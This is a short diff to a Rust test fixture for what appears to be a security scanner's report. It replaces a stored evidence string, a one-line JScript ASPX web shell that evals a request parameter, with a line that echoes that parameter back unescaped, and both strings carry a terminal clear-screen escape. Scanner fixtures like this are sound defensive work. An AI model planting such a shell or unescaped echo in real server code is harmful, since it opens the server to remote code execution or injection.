@@ -28,7 +28,7 @@ pub fn fixture() -> Report {
     file.push_evidence(Evidence {
         label: "$eval".into(),
         offset: Some(96),
-        data: "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>\u{1b}[2J"
+        data: "<%@ Page Language=\"Jscript\"%><%Response.Write(Request.Item[\"p\"]);%>\u{1b}[2J"
             .into(),
     });
     let mut sigma = Finding::new(
